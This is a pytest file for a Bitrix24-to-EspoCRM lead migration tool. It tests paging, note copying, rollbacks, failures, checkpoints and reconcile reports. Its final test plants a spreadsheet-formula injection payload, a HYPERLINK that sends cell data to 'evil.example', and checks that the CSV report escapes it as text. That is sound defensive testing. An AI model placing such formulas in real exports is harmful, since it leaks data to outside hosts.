"""The migration's edges, against the simulators: the request budget, paging, what a copy holds,
copies going back where they came from, failures, and the command's refusals."""

from __future__ import annotations

import random
from datetime import UTC, datetime, timedelta
from uuid import uuid4

import pytest

from crm_bridge.field_mapping import MappedField
from crm_bridge.models import Application
from crm_bridge.providers.base import ImportAction, LeadChanges
from crm_bridge.providers.records import LeadOrigin, LeadReader
from tests.migration.agency import seed_portal
from tests.migration.conftest import ESPOCRM_API_KEY, Migration, kill_after_notes, report_rows, snapshot
from tests.simulators.base import Failure
from tests.simulators.espocrm import SimulatedEspoCrm

pytestmark = pytest.mark.parametrize("migration", ["espocrm"], indirect=True)


def _reader(migration: Migration, name: str) -> LeadReader:
    reader = migration.provider(name)
    assert isinstance(reader, LeadReader)
    return reader


def test_bitrix24_is_read_49_leads_with_their_comments_per_request(migration: Migration) -> None:
    seed_portal(migration.bitrix24, 1000)
    many = migration.bitrix24.seed_lead(
        first_name="Chatty",
        phone="+905321110000",
        comments=[(f"comment {n}", datetime(2025, 1, 1, tzinfo=UTC) + timedelta(hours=n)) for n in range(120)],
    )
    migration.bitrix24.reset_counts()
    code, output = migration.backfill()
    assert code == 0, output
    # 1,001 leads: 21 batches of the list and 49 leads' comments, and two more pages of one lead's 120.
    assert migration.bitrix24.requests == 21 + 2
    lead = next(lead for lead in migration.leads("espocrm") if lead.copied_from == f"bitrix24:{many}")
    assert [note.text.split("\n")[1] for note in lead.notes] == [f"comment {n}" for n in range(120)]


def test_espocrm_is_read_page_by_page_in_id_order(migration: Migration) -> None:
    assert migration.espocrm is not None
    ids = [migration.espocrm.seed_lead(last_name=f"Lead {n}", phone=f"+90532{n:07d}") for n in range(450)]
    reader = _reader(migration, "espocrm")
    seen, cursor, pages = [], None, 0
    while True:
        page = reader.read_leads(after=cursor, since=None, with_notes=False)
        seen += [lead.record_id for lead in page.leads]
        pages += 1
        if page.cursor is None:
            break
        cursor = page.cursor
    assert seen == sorted(ids)
    assert pages == 3


def test_a_copy_keeps_what_no_field_can_hold_in_its_text(migration: Migration) -> None:
    lead_id = migration.bitrix24.seed_lead(
        first_name="Ayşe",
        last_name="Yılmaz",
        attributes={
            "PHONE": [{"VALUE": "0532 123 45 67", "VALUE_TYPE": "MOBILE"}, {"VALUE": "ext. 12", "VALUE_TYPE": "WORK"}],
            "EMAIL": [
                {"VALUE": "Ayse@Example.com", "VALUE_TYPE": "WORK"},
                {"VALUE": "a.y@uni.example", "VALUE_TYPE": "HOME"},
            ],
            "COMMENTS": "Asked about Vienna.",
            "STATUS_ID": "CONVERTED",
            "SOURCE_ID": "RECOMMENDATION",
            "UF_CRM_CONSENT": "Y",
        },
        created_at=datetime(2025, 3, 4, 9, 30, tzinfo=UTC),
    )
    code, output = migration.backfill()
    assert code == 0, output
    (lead,) = migration.leads("espocrm")
    assert lead.phones == ("+905321234567",)
    assert sorted(lead.emails) == ["a.y@uni.example", "ayse@example.com"]
    assert lead.description is not None
    assert lead.description.splitlines() == [
        f"Copied from Bitrix24 lead {lead_id}, created there on 2025-03-04 09:30 UTC.",
        "Source in Bitrix24: RECOMMENDATION",
        "Asked about Vienna.",
        "Contact as typed there (not a valid phone or e-mail): ext. 12",
        f"crm-bridge import bitrix24:{lead_id}",
    ]
    assert lead.values[MappedField.SOURCE_RECORD] == f"bitrix24:{lead_id}"
    assert lead.values[MappedField.SOURCE_CREATED_AT] == "2025-03-04T12:30:00+03:00"
    assert lead.values[MappedField.CONSENT] is True
    assert lead.status.value == "converted"
    assert (lead.source, lead.origin) == ("Partner", LeadOrigin.PARTNER), "a recommendation is a partner's lead"


def test_a_lead_going_back_joins_its_original_with_only_what_is_new(migration: Migration) -> None:
    """After a rollback, a copy that changed in EspoCRM goes back onto the Bitrix24 lead it came from:
    no second lead, no "copied from" note on the original, only the notes written in EspoCRM."""
    original = migration.bitrix24.seed_lead(
        first_name="Can",
        phone="+905331112233",
        comments=[("First call.", datetime(2025, 1, 1, tzinfo=UTC))],
    )
    assert migration.backfill()[0] == 0
    espocrm = migration.provider("espocrm")
    application = Application(name="Can Demir", phone="+905331112233", consent=True, program="MBA")
    espocrm.upsert_lead(application, uuid4())  # he applies again while EspoCRM is the primary
    code, output = migration.backfill(source="espocrm", target="bitrix24")
    assert code == 0, output
    assert "were created 0, merged 0, completed 1" in output
    assert len(migration.bitrix24.leads()) == 1
    timeline = migration.bitrix24.timeline(original)
    assert timeline[0] == "First call."
    assert len(timeline) == 2
    assert timeline[1].startswith("EspoCRM comment of ")
    assert "Submitted the application form again." in timeline[1]
    assert not migration.bitrix24.lead(original)["UF_CRM_SOURCE_RECORD"]
    assert migration.bitrix24.lead(original)["UF_CRM_PROGRAM"] == "MBA"  # an empty field filled
    again = migration.backfill(source="espocrm", target="bitrix24")
    assert "were created 0, merged 0, completed 0, unchanged 1" in again[1]


def test_a_note_both_crms_got_from_one_operation_is_not_copied_twice(migration: Migration) -> None:
    """Dual-write put the same application on both CRMs' leads; the migration does not copy it again."""
    bitrix24, espocrm = migration.provider("bitrix24"), migration.provider("espocrm")
    first = Application(name="Elif Kaya", email="elif@example.com", consent=True)
    operation = uuid4()
    bitrix24.upsert_lead(first, operation)
    espocrm.upsert_lead(first, operation)
    again = Application(name="Elif Kaya", email="elif@example.com", consent=True, message="Any news?")
    operation = uuid4()
    bitrix24.upsert_lead(again, operation)
    espocrm.upsert_lead(again, operation)
    code, output = migration.backfill()
    assert code == 0, output
    assert "merged 1" in output
    (lead,) = migration.leads("espocrm")
    assert len([note for note in lead.notes if "Any news?" in note.text]) == 1
    code, output = migration.run(
        "reconcile", "--from", "bitrix24", "--to", "espocrm", "--report", str(migration.workdir / "r.csv")
    )
    assert code == 0, output


def test_a_rate_limited_or_failing_crm_is_waited_for_and_a_refused_lead_reported(migration: Migration) -> None:
    assert migration.espocrm is not None
    seed_portal(migration.bitrix24, 120)
    migration.bitrix24.fail_next(Failure.RATE_LIMITED, times=2)
    migration.espocrm.fail_next(Failure.SERVER_ERROR, times=2)
    migration.espocrm.require_attribute("cReferralCode")  # an admin made it required: most leads lack it
    code, output = migration.backfill()
    assert code == 1, output
    rows = report_rows(migration.workdir / "bitrix24-espocrm.csv")
    failed = [row for row in rows if row["action"] == "failed"]
    assert 0 < len(failed) < len(rows)
    assert all(row["reason"].startswith("permanent: ") for row in failed)
    assert all("cReferralCode" in row["reason"] or "required" in row["reason"] for row in failed)
    assert f"failed {len(failed)}" in output


def test_only_leads_changed_since_are_read_with_since(migration: Migration) -> None:
    old = migration.bitrix24.seed_lead(
        first_name="Old", phone="+905321000001", created_at=datetime(2025, 1, 1, tzinfo=UTC)
    )
    new = migration.bitrix24.seed_lead(
        first_name="New", phone="+905321000002", created_at=datetime(2026, 6, 1, tzinfo=UTC)
    )
    code, output = migration.backfill("--since", "2026-01-01")
    assert code == 0, output
    assert [lead.copied_from for lead in migration.leads("espocrm")] == [f"bitrix24:{new}"]
    assert old != new


def test_an_interrupted_run_of_other_arguments_is_not_resumed_by_mistake(migration: Migration) -> None:
    seed_portal(migration.bitrix24, 60)
    checkpoint = migration.workdir / "bitrix24-espocrm.json"
    checkpoint.write_text(
        '{"version": 1, "source": "bitrix24", "target": "espocrm", "since": "2026-01-01T00:00:00+00:00", '
        '"report": "x.csv", "cursor": "130", "counts": {"created": 30}, "finished": false}'
    )
    with pytest.raises(SystemExit, match="is of another run"):
        migration.backfill()
    code, output = migration.backfill("--restart")
    assert code == 0, output
    assert "60 leads; were created" in output


def test_the_command_refuses_what_it_cannot_do_without_echoing_secrets(migration: Migration) -> None:
    code, output = migration.run("backfill", "--from", "espocrm", "--to", "espocrm")
    assert code == 2
    assert "same CRM" in output
    migration.env.pop("ESPOCRM_API_KEY")
    code, output = migration.run("reconcile", "--from", "bitrix24", "--to", "espocrm")
    assert code == 2
    assert "ESPOCRM_API_KEY" in output
    assert migration.bitrix24.token not in output


def test_import_lead_reports_what_it_did(migration: Migration) -> None:
    migration.bitrix24.seed_lead(first_name="Kerem", phone="+905359998877")
    (lead,) = _reader(migration, "bitrix24").read_leads(after=None, since=None).leads
    espocrm = migration.provider("espocrm")
    assert espocrm.import_lead(lead, dry_run=True).action is ImportAction.CREATED
    assert espocrm.import_lead(lead).action is ImportAction.CREATED
    assert espocrm.import_lead(lead).action is ImportAction.UNCHANGED


def test_a_run_killed_again_and_again_ends_where_an_uninterrupted_one_does(
    migration: Migration, monkeypatch: pytest.MonkeyPatch
) -> None:
    seed_portal(migration.bitrix24, 300)
    with SimulatedEspoCrm(base_url="https://uninterrupted.example.test", api_key=ESPOCRM_API_KEY) as other:
        uninterrupted = Migration(
            migration.bitrix24, other, migration.env | {"ESPOCRM_URL": other.base_url}, migration.workdir / "other"
        )
        uninterrupted.workdir.mkdir()
        assert uninterrupted.backfill()[0] == 0
        expected = snapshot(uninterrupted.leads("espocrm"))
        for provider in uninterrupted.providers:
            provider.close()
    chance = random.Random()  # noqa: S311 - any points must do
    for stop_at in (chance.randrange(1, 200) for _ in range(3)):
        with monkeypatch.context() as patched:
            kill_after_notes(patched, stop_at)
            code, output = migration.backfill()
        assert code == 130, output
    code, output = migration.backfill()
    assert code == 0, output
    assert snapshot(migration.leads("espocrm")) == expected


def test_reconcile_names_each_lead_missing_and_each_value_that_differs(migration: Migration) -> None:
    assert migration.espocrm is not None
    seed_portal(migration.bitrix24, 30)
    assert migration.backfill()[0] == 0
    copies = {lead.copied_from: lead for lead in migration.leads("espocrm")}
    first, second = sorted(copies, key=lambda key: int(str(key).split(":")[1]))[:2]
    espocrm = migration.provider("espocrm")
    changed = copies[first]
    espocrm.update_lead(changed.record_id, LeadChanges(values={MappedField.PROGRAM: "Dentistry"}))
    migration.espocrm.delete_lead(copies[second].record_id)  # an administrator deleted it
    only_here = migration.espocrm.seed_lead(first_name="Walk", last_name="In", phone="+905559990011")
    code, output = migration.run(
        "reconcile", "--from", "bitrix24", "--to", "espocrm", "--report", str(migration.workdir / "r.csv")
    )
    assert code == 1, output
    assert "only in bitrix24 1, only in espocrm 1, field differences 1" in output
    rows = {
        (row["kind"], row["from_record"], row["to_record"], row["field"])
        for row in report_rows(migration.workdir / "r.csv")
    }
    assert rows == {
        ("differs", str(first), f"espocrm:{changed.record_id}", "program"),
        ("only_in_from", str(second), "", ""),
        ("only_in_to", "", f"espocrm:{only_here}", ""),
    }
    assert "+90555" not in output  # counts on the screen; the values are in the CSV only


def test_a_form_value_written_like_a_formula_is_text_in_the_reconcile_report(migration: Migration) -> None:
    """A programme typed as a spreadsheet formula: the operator's spreadsheet shows it, never runs it."""
    seed_portal(migration.bitrix24, 1)
    assert migration.backfill()[0] == 0
    (copy,) = migration.leads("espocrm")
    formula = '=HYPERLINK("https://evil.example/?d="&A2,"Dentistry")'
    migration.provider("espocrm").update_lead(copy.record_id, LeadChanges(values={MappedField.PROGRAM: formula}))

    code, output = migration.run(
        "reconcile", "--from", "bitrix24", "--to", "espocrm", "--report", str(migration.workdir / "r.csv")
    )

    assert code == 1, output
    (row,) = report_rows(migration.workdir / "r.csv")
    assert (row["field"], row["to_value"]) == ("program", f"'{formula}")
